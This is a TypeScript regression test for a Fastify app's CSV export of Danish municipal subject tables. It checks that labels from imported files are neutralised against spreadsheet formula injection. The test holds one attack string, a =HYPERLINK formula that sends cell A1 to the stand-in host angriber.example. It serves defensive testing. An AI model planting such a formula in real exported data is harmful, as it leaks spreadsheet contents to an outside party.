import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../../src/server/app.js";
import { published2024Cells } from "../rates/published-2024-cells.js";
import { storeCells } from "../rates/stored-datasets.js";
import { createTestDatabase, type TestDatabase } from "../support/test-databases.js";

/**
 * Issue 19, output: a subject label from an imported file beginning with "=" reached the profile's
 * subject-table CSV as it was, and a spreadsheet ran it as a formula. Every CSV cell is now neutralised by
 * OWASP's rule (a leading apostrophe, quoted).
 */
describe("CSV downloads never carry a formula from an imported file", () => {
  let t: TestDatabase;
  let app: FastifyInstance;
  const attack = '=HYPERLINK("http://angriber.example/?"&A1,"Klik her") Merudgiftydelse §41 + tilbagebetaling';
  beforeAll(async () => {
    t = await createTestDatabase("pglite");
    const cells = published2024Cells({ publishedNational: true });
    const herning = cells.findIndex((c) => c.municipalityCode === "0657" && c.subject.startsWith("Merudgiftydelse"));
    cells[herning] = { ...cells[herning]!, subject: attack };
    await storeCells(t.db, cells);
    app = await buildApp({ db: t.db, storageDescription: "indlejret database i hukommelsen" });
  });
  afterAll(async () => {
    await app?.close();
    await t?.drop();
  });

  it("prefixes the imported label in the profile's subject table with an apostrophe, quoted", async () => {
    const response = await app.inject({ method: "GET", url: "/kommuner/0657/tabel.csv?kort=socialomraadet&aar=2024&tabel=emner" });
    expect(response.statusCode).toBe(200);
    expect(response.body).toContain(`"'${attack.replace(/"/g, '""')}";`);
    // No line of the file starts a cell with a formula character.
    for (const line of response.body.replace(/^\ufeff/, "").split("\r\n")) expect(line).not.toMatch(/(^|;)[=+@\t]/);
  });
});
